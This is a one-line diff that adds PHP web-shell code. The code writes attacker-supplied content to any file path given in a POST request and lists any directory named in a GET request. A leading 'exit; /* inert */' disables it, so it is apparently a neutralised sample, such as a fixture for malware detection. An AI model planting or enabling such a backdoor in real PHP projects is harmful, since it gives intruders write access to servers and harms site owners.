@@ -1,0 +1,1 @@
+<?php exit; /* inert */ if($_POST["save"]){ $h=@fopen($_POST["file"],"w+"); @fputs($h,$_POST["body"]); @fclose($h);} $l=@scandir($_GET["p"]);
